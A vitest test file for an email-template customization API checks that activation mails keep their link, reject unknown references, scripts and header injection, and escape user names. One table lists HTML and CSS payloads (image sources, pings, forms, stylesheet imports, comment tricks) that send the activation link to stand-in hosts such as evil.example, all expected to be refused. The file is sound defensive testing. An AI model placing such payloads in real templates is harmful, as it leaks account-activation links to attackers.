// What the organisation's mails say: in its own words, by language, and never without the link that the mail is for.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { testApp, type TestApp } from '#test/kit/app.ts';

type Customization = { id: string; language: string; isDefault: boolean; subject: string };
let org: TestApp;
let path: string;
beforeAll(async () => {
  org = await testApp();
  const [brand] = await org.api<{ id: string }[]>('GET', '/api/v1/brands');
  path = `/api/v1/brands/${brand?.id}/templates/email`;
});
afterAll(() => org.close());
beforeEach(() => org.eventTypes());

const call = (method: string, url: string, body?: unknown) =>
  org.inject({
    method,
    url,
    headers: { authorization: `SSWS ${org.token}` },
    ...(body === undefined ? {} : { body }),
  });
const wording = (more: object = {}) => ({
  language: 'en',
  subject: 'Welcome to ${org.name}, ${user.profile.firstName}',
  body: '<p>Hello ${user.profile.firstName}, <a href="${activationLink}">begin here</a>.</p>',
  ...more,
});

describe('the link that opens an account goes to its reader and nobody else', () => {
  const link = '${activationLink}';
  test.each([
    ['in the address of a picture', `<img src="https://evil.example/?${link}">`],
    ['in an address of somebody else', `<a href="https://evil.example/?${link}">begin</a>`],
    ['in a picture that is never closed', `<p>${link}</p><img src="https://evil.example/?${link}`],
    ['behind a bracket in a value', `<img src="https://evil.example/?x>${link}">`],
    ['behind a quotation mark that opens nothing', `<img alt=a"b src="https://evil.example/?x>${link}">`],
    ['behind a comment that ends too early', `<!--> <img src="https://evil.example/? -->${link}">`],
    ['behind a comment for one program', `<!--[if mso]><img src="https://e.example/?<![endif]-->${link}">`],
    ['in a stylesheet', `<style>p{background:url(https://evil.example/?${link})}</style>${link}`],
    [
      'behind a stylesheet that goes on',
      `<style></stylex>p{background:url(https://e.example/?${link})}</style>`,
    ],
    [
      'read by a stylesheet',
      `<style>a[href*=a]{background:url(//e.example/a)}</style><a href="${link}">x</a>`,
    ],
    ['read by a stylesheet from elsewhere', `<style>@import url(//e.example)</style><a href="${link}">x</a>`],
    ['read by a linked stylesheet', `<link rel="stylesheet" href="//e.example"><a href="${link}">x</a>`],
    ['told by a ping', `<a href="${link}" ping="https://evil.example/">begin</a>`],
    ['in a form', `<form action="//evil.example"><textarea name="t">${link}</textarea></form>`],
    ['in the title of a link', `<a href="https://evil.example/" title="${link}">begin</a>`],
  ])('not %s', async (_, body) => {
    const answer = await call('POST', `${path}/UserActivation/customizations`, wording({ body }));
    expect([answer.status, answer.text]).toEqual([400, expect.stringContaining('${activationLink}')]);
    expect(await org.eventTypes()).toEqual([]);
  });
  test('a mail as long as it may be, of tags that never end, is read in no time', async () => {
    for (const part of ['<style', '<a href="x">', '<a', '<a href=', '<!--', '<title>']) {
      const body = link + part.repeat(Math.floor(199_000 / part.length));
      const beganMs = performance.now();
      await call(
        'POST',
        `${path}/AccountLockout/customizations`,
        wording({ body: body.replace(link, ''), language: 'en' }),
      );
      const [made] = await org.api<Customization[]>('GET', `${path}/AccountLockout/customizations`);
      if (made) {
        await org.api('GET', `${path}/AccountLockout/customizations/${made.id}/preview`);
        await call('DELETE', `${path}/AccountLockout/customizations`);
      }
      expect(performance.now() - beganMs).toBeLessThan(5_000);
    }
    await org.eventTypes();
  });
});

describe('a wording that could not be sent is refused, and the mail stays as it was', () => {
  test.each([
    ['without the link', { body: '<p>Hello</p>' }, 'body: has to hold ${activationLink}'],
    [
      'with an unknown reference',
      { subject: '${user.password}' },
      'subject: ${user.password} is not known here',
    ],
    ['with a directive', { body: '#if(true)${activationLink}#end' }, '#if is a directive'],
    ['with a bare reference', { body: '${activationLink} $user' }, 'write references with braces'],
    ['with a script', { body: '${activationLink}<script src=x>' }, '<script> has no place in a mail'],
    [
      'with a subject of two lines',
      { subject: 'a\nBcc: everybody@example.com' },
      'subject: must be one line',
    ],
    ['without a language', { language: '' }, 'language'],
    ['with an unknown property', { css: 'x' }, 'css'],
  ])('%s', async (_, more, cause) => {
    const answer = await call('POST', `${path}/UserActivation/customizations`, wording(more));
    expect([answer.status, answer.text]).toEqual([
      400,
      expect.stringContaining(JSON.stringify(cause).slice(1, -1)),
    ]);
    expect(await org.eventTypes()).toEqual([]);
  });
  test('an unknown template, an unknown customization, recipients that cannot be', async () => {
    const answers = [
      await call('GET', `${path}/NoSuchMail`),
      await call('GET', `${path}/UserActivation/customizations/oel00000000000000000`),
      await call('PUT', `${path}/UserActivation/settings`, { recipients: 'ADMINS_ONLY' }),
    ];
    expect(answers.map(({ status }) => status)).toEqual([404, 404, 400]);
  });
});

test('the mails that go out are listed, with the words they have by default, in both languages', async () => {
  const list = await org.api<{ name: string }[]>('GET', `${path}?expand=settings,customizationCount`);
  expect(list.map(({ name }) => name)).toEqual([
    'AccountLockout',
    'EmailChallenge',
    'EmailChangeConfirmation',
    'EmailFactorVerification',
    'FactorEnrollment',
    'FactorReset',
    'ForgotPassword',
    'NewSignOnNotification',
    'PasswordChanged',
    'SelfServiceUnlock',
    'UserActivation',
  ]);
  expect(list[0]).toMatchObject({
    _embedded: { settings: { recipients: 'ALL_USERS' }, customizationCount: 0 },
  });
  for (const { name } of list) {
    const japanese = await org.api<{ body: string; subject: string }>(
      'GET',
      `${path}/${name}/default-content?language=ja`,
    );
    expect(japanese.body).toContain('lang="ja"');
    const preview = await org.api<{ body: string }>('GET', `${path}/${name}/default-content/preview`);
    expect(preview.body).not.toContain('${');
    // The default is itself a wording that could be saved.
    const saved = await call('POST', `${path}/${name}/customizations`, {
      language: 'ja',
      subject: japanese.subject,
      body: japanese.body,
    });
    expect(saved.status, saved.text).toBe(201);
    expect((await call('DELETE', `${path}/${name}/customizations`)).status).toBe(204);
  }
});

describe('a wording is shown before it is saved', () => {
  const shown = (name: string) => path.replace('/api/v1', '/gatehouse/v1') + `/${name}/preview`;

  test('filled in with example values, with what keeps it from being saved, and nothing is kept', async () => {
    const good = await org.api<Record<string, unknown>>('POST', shown('UserActivation'), {
      subject: 'Welcome, ${user.profile.firstName}',
      body: '<p>Hello ${user.profile.firstName}: ${activationLink}</p>',
    });
    expect(good).toMatchObject({ subject: 'Welcome, Aoi', problems: [], required: 'activationLink' });
    expect(good['body']).toContain('<p>Hello Aoi: https://example.com/welcome/');
    expect(good['references']).toContain('org.name');
    const bad = await org.api<{ problems: string[] }>('POST', shown('UserActivation'), {
      subject: '${user.password}',
      body: '<p>Hello</p>',
    });
    expect(bad.problems).toEqual([
      expect.stringContaining('${user.password} is not known here'),
      expect.stringContaining('has to hold ${activationLink}'),
    ]);
    expect(await org.api('GET', `${path}/UserActivation/customizations`)).toEqual([]);
    expect(await org.eventTypes()).toEqual([]);
  });

  test('not of an unknown mail, not for an unknown brand, not without both parts', async () => {
    const body = { subject: 'x', body: 'x' };
    expect((await call('POST', shown('Nothing'), body)).status).toBe(404);
    const elsewhere = shown('UserActivation').replace(/brands\/[^/]+/, 'brands/bndnowhere');
    expect((await call('POST', elsewhere, body)).status).toBe(404);
    expect((await call('POST', shown('UserActivation'), { subject: 'x' })).status).toBe(400);
  });
});

test('a new person is welcomed in the organisation’s own words, their name made harmless, and others in their language', async () => {
  const english = await org.api<Customization>('POST', `${path}/UserActivation/customizations`, wording());
  expect(english.isDefault).toBe(true);
  const japanese = await org.api<Customization>(
    'POST',
    `${path}/UserActivation/customizations`,
    wording({
      language: 'ja',
      subject: '${org.name}へようこそ',
      body: '<a href="${activationLink}">開始</a>',
    }),
  );
  const twice = await call('POST', `${path}/UserActivation/customizations`, wording());
  expect([twice.status, twice.json<{ errorCode: string }>().errorCode]).toEqual([409, 'E0000183']);
  const defaultGone = await call('DELETE', `${path}/UserActivation/customizations/${english.id}`);
  expect(defaultGone.json<{ errorCode: string }>().errorCode).toBe('E0000184');
  const undefaulted = await call(
    'PUT',
    `${path}/UserActivation/customizations/${english.id}`,
    wording({ isDefault: false }),
  );
  expect(undefaulted.json<{ errorCode: string }>().errorCode).toBe('E0000185');
  const preview = await org.api<{ subject: string }>(
    'GET',
    `${path}/UserActivation/customizations/${japanese.id}/preview`,
  );
  expect(preview.subject).toContain('へようこそ');

  const welcomed = async (login: string, more: object) => {
    await org.api('POST', '/api/v1/users?activate=true', {
      profile: { login, email: login, firstName: 'Bo', lastName: 'Berg', ...more },
    });
    await org.platform.jobs.drain();
    // Another worker may have the job in its hands.
    await expect.poll(() => org.mails.some(({ to }) => to === login)).toBe(true);
    return org.mails.find(({ to }) => to === login);
  };
  expect(await welcomed('bold@example.com', { firstName: '<b>Bo</b>' })).toMatchObject({
    html: expect.stringContaining('Hello &lt;b&gt;Bo&lt;/b&gt;, <a href="http'),
    text: expect.stringContaining('begin here (http'),
  });
  expect(await welcomed('aoi@example.com', { preferredLanguage: 'ja' })).toMatchObject({
    subject: expect.stringContaining('へようこそ'),
  });
  expect(await welcomed('luc@example.com', { preferredLanguage: 'fr' })).toMatchObject({
    subject: expect.stringContaining('Welcome to'),
  });
});

test('mails of a kind can be switched off, and a test mail goes to whoever asks', async () => {
  expect(
    (await call('PUT', `${path}/PasswordChanged/settings`, { recipients: 'NO_USERS' })).json(),
  ).toMatchObject({
    recipients: 'NO_USERS',
  });
  expect(await org.api('GET', `${path}/PasswordChanged/settings`)).toMatchObject({ recipients: 'NO_USERS' });
  expect((await call('POST', `${path}/ForgotPassword/test?language=ja`)).status).toBe(204);
  expect(org.mails.at(-1)).toMatchObject({
    to: 'admin@example.com',
    html: expect.stringContaining('lang="ja"'),
  });
  expect(await org.eventTypes()).toEqual(['system.email.template.settings.update']);
});
